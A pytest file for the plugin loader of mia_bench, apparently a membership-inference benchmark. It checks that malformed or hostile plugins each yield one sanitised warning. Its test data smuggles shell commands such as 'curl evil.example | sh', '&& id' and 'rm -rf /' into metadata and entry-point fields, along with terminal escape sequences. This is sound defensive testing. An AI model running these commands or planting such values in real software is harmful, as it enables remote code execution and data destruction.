"""Whatever is installed, each command works, and each plugin that is wrong is named once."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from mia_bench import plugins as plugins_module
from mia_bench.plugins import Host, find_plugins, host

METADATA = "Metadata-Version: 2.1\nName: odd\nVersion: 0.1\n"
ENTRY = "[mia_bench]\nodd = odd_plugin\n"
HEAD = "from mia_bench import Attack, Defense, Options, hookimpl\nfrom pydantic import Field\n"
DEFENSE = """
class Odd(Defense):
    summary = "odd"
    paper = "none"
    version = "1"
    {body}

@hookimpl
def mia_bench_register_defenses(register):
    register({name}, Odd)
"""
COMMANDS = """
import click

@hookimpl
def mia_bench_register_commands(cli):
    {body}
"""


def defense(body: str = "pass", name: str = "'odd'") -> str:
    return HEAD + DEFENSE.format(body=body, name=name)


def commands(body: str) -> str:
    return HEAD + COMMANDS.format(body=body)


Install = Callable[..., Path]


@pytest.fixture
def install(sites, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Install:
    monkeypatch.delenv("MIA_BENCH_STRICT", raising=False)
    monkeypatch.delitem(sys.modules, "odd_plugin", raising=False)

    def install(
        module: str | None,
        *,
        metadata: str | bytes | None = METADATA,
        entry: str | bytes = ENTRY,
        info: str = "odd-0.1.dist-info",
    ) -> Path:
        folder = tmp_path / "site" / info
        folder.mkdir(parents=True)
        for name, text in (("METADATA", metadata), ("entry_points.txt", entry)):
            if text is not None:
                (folder / name).write_bytes(text if isinstance(text, bytes) else text.encode())
        if module is not None:
            (tmp_path / "site" / "odd_plugin.py").write_text(module, encoding="utf-8")
        sites(tmp_path / "site")
        return tmp_path / "site"

    yield install
    sys.modules.pop("odd_plugin", None)


BROKEN: dict[str, tuple[dict, str]] = {
    "no METADATA": ({"module": defense(), "metadata": None}, "its distribution has no name: METADATA"),
    "METADATA without a name": (
        {"module": defense(), "metadata": "Metadata-Version: 2.1\nVersion: 1\n"},
        "its distribution has no name",
    ),
    "METADATA that is no text": (
        {"module": defense(), "metadata": b"\xff\xfe\x00"},
        "its distribution has no name",
    ),
    "a name with a command": (
        {"module": defense(), "metadata": METADATA.replace("odd", "x; curl evil.example | sh")},
        "'x; curl evil.example | sh' is not the name of a Python distribution",
    ),
    "no version": (
        {"module": defense(), "metadata": "Metadata-Version: 2.1\nName: odd\n"},
        "is not the version of a Python distribution",
    ),
    "a version with a command": (
        {"module": defense(), "metadata": METADATA.replace("0.1", "1 && id")},
        "'1 && id' is not the version of a Python distribution",
    ),
    "a module that is gone": ({"module": None}, "ModuleNotFoundError: No module named 'odd_plugin'"),
    "an attribute that is gone": (
        {"module": defense(), "entry": "[mia_bench]\nodd = odd_plugin:nothing\n"},
        "has no attribute 'nothing'",
    ),
    "no object reference": ({"module": defense(), "entry": "[mia_bench]\nodd = rm -rf /\n"}, "odd"),
    "entry points without '='": ({"module": defense(), "entry": "[mia_bench]\nodd\n"}, "can't be read"),
    "entry points that are no text": (
        {"module": defense(), "entry": b"[mia_bench]\nodd = \xff\n"},
        "can't be read",
    ),
    "an entry point with a hostile name": (
        {"module": defense(), "entry": "[mia_bench]\n\x1b]0;odd\x07 = odd_plugin\n"},
        "is not a plugin's name",
    ),
    "sys.exit": ({"module": "import sys\nsys.exit(0)\n"}, "SystemExit: 0"),
    "BaseException": (
        {"module": "class Odd(BaseException): pass\nraise Odd('odd\\x1b[2J\\nodd')\n"},
        "Odd: odd\ufffd[2J odd",
    ),
    "GeneratorExit": ({"module": "raise GeneratorExit\n"}, "GeneratorExit: no message"),
    "an error that can't be shown": (
        {"module": "class Odd(Exception):\n    def __str__(self): 1/0\nraise Odd\n"},
        "Odd: a message that can't be shown",
    ),
    "syntax": ({"module": "def (:\n"}, "SyntaxError"),
    "recursion": ({"module": "def f(): f()\nf()\n"}, "RecursionError"),
    "a module that answers with errors": (
        {"module": "def __dir__(): raise OSError('odd')\n"},
        "OSError: odd",
    ),
    "no hook": ({"module": "x = 1\n"}, "it implements no hook"),
    "a name of a component": ({"module": defense(name="'[/odd]'")}, "is not lower-case words joined by '-'"),
    "a long name": ({"module": defense(name="'x' * 65")}, "is not lower-case words joined by '-'"),
    "a name that is no text": ({"module": defense(name="None")}, "defense name None"),
    "a version of a component": (
        {"module": defense().replace("version = '1'", "").replace('"1"', '"1; id"')},
        "'1; id' is not a version",
    ),
    "options that are none": ({"module": defense("Options = 42")}, "Options is not a subclass of"),
    "options of another kind": (
        {"module": defense("class Options: x = 1")},
        "Options is not a subclass of mia_bench.Options",
    ),
    "a wrong name of an option": (
        {"module": defense("class Options(Options):\n        été: int = 1")},
        "is not an option's name",
    ),
    "a summary that is no text": ({"module": defense("summary = 3")}, "summary is 3, not a string"),
}


def warnings(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith("warning: ")]


@pytest.mark.slow
@pytest.mark.parametrize("kind", BROKEN)
def test_a_broken_plugin_is_one_warning_and_the_others_work(cli, install: Install, kind: str) -> None:
    given, told = BROKEN[kind]
    install(**given)
    listed = cli("list", "defenses")
    assert listed.code == 0, listed.err
    (warning,) = listed.err.splitlines()
    assert warning.startswith("warning: ")
    assert "odd" in warning
    assert told in warning
    assert warning.isprintable()
    assert re.search("^ +neg-ls ", listed.out, re.MULTILINE)
    planned = cli("run", "--defense", "none", "--attack", "ppa", "--dry-run")
    assert planned.code == 0
    assert warnings(planned.err) == [warning]
    assert cli("describe", "neg-ls").code == 0
    doctor = cli("doctor")
    assert doctor.code == 1
    assert len(re.findall("^BROKEN", doctor.out, re.MULTILINE)) == 1
    assert cli("--help").err == ""
    shown = cli("plugins")
    assert shown.code == 0
    assert told in shown.out + shown.err
    assert "Traceback" not in listed.err + planned.err + doctor.err + shown.err


def test_it_can_be_disabled(cli, install: Install, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MIA_BENCH_DISABLE_PLUGINS", "odd")
    install(None, metadata=None, info="odd-0.9.dist-info")
    assert cli("list", "defenses").err == ""


def test_in_a_process_of_its_own(install: Install) -> None:
    """As it is met: started by a shell, with a distribution that says nothing of itself."""
    install(None, metadata=None, info="x-0.9.dist-info", entry="[mia_bench]\norphan = orphan\n")
    for words in (["list"], ["describe", "ppa"], ["run", "--dry-run"], ["results"], ["--help"], ["plugins"]):
        done = subprocess.run([sys.executable, "-m", "mia_bench", *words], capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        assert len(warnings(done.stderr)) == (words[0] not in ("--help", "plugins"))


def test_a_finder_that_raises_hides_only_what_it_finds(monkeypatch: pytest.MonkeyPatch) -> None:
    class Finder:
        def find_distributions(self, *args: object) -> list:
            raise RuntimeError("odd")

    monkeypatch.setattr(sys, "meta_path", [*sys.meta_path, Finder()])
    found, unreadable = find_plugins()
    assert {entry.name for entry in found} >= {"ppa", "none"}
    (line,) = unreadable
    assert line.startswith("the installed distributions can't all be listed: RuntimeError: odd (")


def test_the_first_of_two_distributions_of_a_name_counts(install: Install, sites, tmp_path: Path) -> None:
    install(defense())
    other = tmp_path / "other" / "Odd-0.2.dist-info"
    other.mkdir(parents=True)
    (other / "METADATA").write_text(METADATA.replace("odd", "Odd"))
    (other / "entry_points.txt").write_text(ENTRY.replace("odd_plugin", "gone"))
    sys.path.append(str(tmp_path / "other"))
    try:
        plugins_module.host.cache_clear()
        assert host().problems() == []
        assert [info.version for info in host().plugins if info.name == "odd"] == ["0.1"]
    finally:
        sys.path.remove(str(tmp_path / "other"))


# --- plugins that work and do what they must not -------------------------------------------------


@pytest.mark.slow
def test_what_a_plugin_prints_while_it_is_imported_is_one_warning(cli, install: Install) -> None:
    install("print('odd\\x1b[2J\\nwords', flush=True)\n" + defense())
    outcome = cli("list", "defenses")
    assert outcome.err == ("warning: plugin odd:odd prints while it is imported: odd\ufffd[2J words\n")
    assert "words" not in outcome.out
    assert re.search("^ +odd +odd ", outcome.out, re.MULTILINE)
    assert cli("doctor").code == 0


def test_an_entry_point_given_twice_is_one_warning(cli, install: Install) -> None:
    install(defense(), entry=ENTRY + "odd = odd_plugin:other\n")
    assert (
        cli("list", "defenses").err
        == "warning: plugin odd:odd is named twice; odd_plugin:other is left out\n"
    )


def test_an_import_that_takes_long_is_named_and_ended(cli, install: Install, monkeypatch) -> None:
    monkeypatch.setattr(plugins_module, "SLOW_SECONDS", 0.2)
    monkeypatch.setattr(plugins_module, "LONGEST_SECONDS", 1.0)
    install("import time\ntime.sleep(60)\n")
    began = time.monotonic()
    outcome = cli("list", "defenses")
    assert time.monotonic() - began < 20
    assert outcome.code == 0
    slow, broken = outcome.err.splitlines()
    assert slow == (
        "warning: plugin odd:odd takes long to import; MIA_BENCH_DISABLE_PLUGINS=odd:odd leaves it out"
    )
    assert "plugin odd:odd is broken: TimeoutError: its import took longer than 1 s" in broken


def test_a_hostile_summary_is_shown_as_it_is(cli, install: Install) -> None:
    install(
        defense("summary = 'paths like [/home/x] and [features] \\x1b]0;x\\x07 \\u202e [bold]:smile:\\nx'")
    )
    outcome = cli("list", "defenses")
    assert outcome.err == ""
    shown = " ".join(outcome.out.split())
    assert "odd paths like [/home/x] and [features] \ufffd]0;x\ufffd \ufffd [bold]:smile: x odd" in shown
    text = cli("describe", "odd").out
    assert "  paths like [/home/x] and [features]" in text
    assert not set(text) & set("\x1b\x07\u202e")


# --- commands ------------------------------------------------------------------------------------

WRONG_COMMANDS = {
    "cli.commands['odd'] = 42": "its command 'odd' is left out: a int, not a click.Command",
    "cli.commands['run'] = click.Command('run')": (
        "its command 'run' is left out: mia-bench has one of that name"
    ),
    "cli.commands['[/odd]\\x1b'] = click.Command('x')": "the name is not a plugin's name",
    "cli.commands = None": "its commands are NoneType, not a dictionary",
    "cli.commands[3] = click.Command('x')": "its command 3 is left out",
    "cli.add_command(42)": "its commands raised AttributeError",
    "import sys; sys.exit(3)": "its commands raised SystemExit: 3",
}


@pytest.mark.parametrize("body", WRONG_COMMANDS)
def test_what_is_no_command_is_left_out(cli, install: Install, body: str) -> None:
    install(commands(body))
    outcome = cli("--help")
    assert outcome.code == 0
    assert "Show tracebacks" in outcome.out
    (line,) = outcome.err.splitlines()
    assert line.startswith("warning: plugin odd:odd: ")
    assert WRONG_COMMANDS[body] in line
    assert cli("run", "--help").out.startswith("Usage: mia-bench run ")
    assert cli("list", "tracks").code == 0


def test_a_command_that_can_not_describe_itself_is_listed(cli, install: Install) -> None:
    install(commands("cli.add_command(click.Command('odd', help=3)); cli.params.clear()"))
    outcome = cli("--help")
    assert (outcome.code, outcome.err) == (0, "")
    assert re.search("^  odd *$", outcome.out, re.MULTILINE)
    assert "--debug" in outcome.out


def test_a_command_that_raises_is_one_line(cli, install: Install) -> None:
    install(commands("cli.add_command(click.Command('odd', callback=lambda: 1 / 0))"))
    outcome = cli("odd")
    assert outcome.code == 1
    (line,) = outcome.err.splitlines()
    assert line.startswith("error: plugin odd:odd: ZeroDivisionError: division by zero (odd_plugin.py:")


# --- options -------------------------------------------------------------------------------------

OPTIONS = {
    "a default that raises": "x: int = Field(default_factory=lambda: 1 / 0, description='x')",
    "no default": "x: int = Field(description='x')",
    "a schema that can't be made": (
        "model_config = {'arbitrary_types_allowed': True}\n"
        "        x: type(odd) = Field(None, description='x')"
    ),
    "no JSON": (
        "model_config = {'arbitrary_types_allowed': True, 'validate_default': False}\n"
        "        x: object = Field(odd, description='x')"
    ),
}


@pytest.mark.parametrize("kind", OPTIONS)
def test_options_that_can_not_be_read_concern_one_component(cli, install: Install, kind: str) -> None:
    body = f"class Options(Options):\n        {OPTIONS[kind]}"
    install("def odd(): pass\n" + defense(body))
    assert host().problems() == []
    described = cli("describe", "odd")
    assert described.code == 0
    assert "odd (defense, from odd:odd)" in described.out
    for words in (["list"], ["plugins", "--check"], ["describe", "neg-ls"]):
        assert cli(*words).code == 0
    planned = cli("run", "--attack", "prior-sample", "--dry-run")
    assert planned.code == 0
    assert "neg-ls × prior-sample" in planned.out
    (warning,) = warnings(planned.err)
    assert "odd" in warning
    assert "Traceback" not in planned.err + described.err


def test_a_host_without_a_name_for_its_plugin_still_sorts() -> None:
    found, _ = find_plugins()
    assert len(Host(found).plugins) == len(found)
